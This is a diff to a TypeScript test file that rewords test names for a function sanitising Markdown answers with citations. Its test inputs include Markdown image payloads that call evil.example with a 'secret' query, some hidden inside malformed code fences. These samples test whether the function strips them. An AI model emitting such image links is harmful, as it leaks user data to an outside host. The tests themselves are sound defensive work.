@@ -7,7 +7,7 @@ import { describe, expect, it } from "vitest";
 import { check, owls, tea } from "./answers-for-tests.ts";
 import { checkAnswer } from "./check-answer.ts";
 
-describe("what an answer could do", () => {
+describe("checkAnswer, active content", () => {
   it.each([
     ["![x](https://evil.example/?d=secret)", ""],
     ["a ![x](https://evil.example/x.png) b", "a  b"],
@@ -31,18 +31,18 @@ describe("what an answer could do", () => {
     ["[[1|owls hunt at night]](x)", String.raw`[1]\(x)`],
     ["[![](x)1]", "(1)"],
     ["&#91;1&#93;", "&amp;#91;1&amp;#93;"],
-  ])("%j leaves as %j", (answer, text) => {
+  ])("turns %j into %j", (answer, text) => {
     expect(check(answer).text).toBe(text);
   });
 
-  it("makes the address of a source a link to its entry", () => {
+  it("turns the URL of a source into a link to its entry", () => {
     expect(
       check("See https://owls.example/night/?utm_source=x, or [this](https://owls.example/night).")
         .text,
     ).toBe(String.raw`See [Owls of \*the\* night](/entry/owls), or [this](/entry/owls).`);
   });
 
-  it("leaves code as it is, but for addresses", () => {
+  it("keeps code, but not URLs in it", () => {
     const code = "```ts\nconst a = b[1] < c; // [x](y) http://evil.example/a\n```\n";
     expect(check(`So:\n${code}and \`a[1] <b>\` too.`).text).toBe(
       "So:\n\n```ts\nconst a = b[1] < c; // [x](y) evil.example\n```\nand `a[1] <b>` too.",
@@ -60,12 +60,12 @@ describe("what an answer could do", () => {
     "| a |\n|---|\n```\n![x](https://evil.example/)\n",
     "\\`![x](https://evil.example/)`",
     "```x`y\n![x](https://evil.example/)\n```",
-  ])("%j is no code behind which an image hides", (answer) => {
+  ])("does not treat %j as code that could hide an image", (answer) => {
     expect(render(check(answer).text)).not.toMatch(/<img/);
   });
 });
 
-/** As the strictest reader of Markdown would show it. */
+/** As the strictest Markdown renderer shows it. */
 function render(markdown: string): string {
   return renderToStaticMarkup(createElement(Markdown, { remarkPlugins: [remarkGfm] }, markdown));
 }
@@ -135,8 +135,8 @@ const piece = fc.oneof(
 );
 const answer = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(""));
 
-describe("any answer", () => {
-  it("comes out the same in whatever pieces it comes in", () => {
+describe("checkAnswer with any answer", () => {
+  it("does not depend on how the answer is split", () => {
     fc.assert(
       fc.property(answer, fc.array(fc.nat(400), { maxLength: 40 }), (whole, places) => {
         const cuts = places.map((place) => place % (whole.length + 1)).toSorted((a, b) => a - b);
@@ -148,7 +148,7 @@ describe("any answer", () => {
     );
   });
 
-  it("shows no image, no HTML and no link but to an entry, whoever renders it", () => {
+  it("renders no image, no HTML and no link except to entries, in any renderer", () => {
     fc.assert(
       fc.property(answer, (whole) => {
         const { text } = check(whole);
@@ -164,7 +164,7 @@ describe("any answer", () => {
     );
   });
 
-  it("shows a number only for words that stand where they are said to", () => {
+  it("shows a number only for words in the named source", () => {
     fc.assert(
       fc.property(answer, (whole) => {
         const { text, citations } = check(whole);
@@ -182,12 +182,12 @@ describe("any answer", () => {
     );
   });
 
-  it("makes no number out of what stood around an address", () => {
+  it("makes no number out of text around a URL", () => {
     for (const whole of ["[1www.[x]", "[1www.www.]", "[12://]", "see [3https://[]"])
       expect(check(whole).text).not.toMatch(/\[\d+\]/);
   });
 
-  it("shows no number at all without sources", () => {
+  it("shows no number without sources", () => {
     fc.assert(
       fc.property(answer, (whole) => {
         const checked = checkAnswer([]);
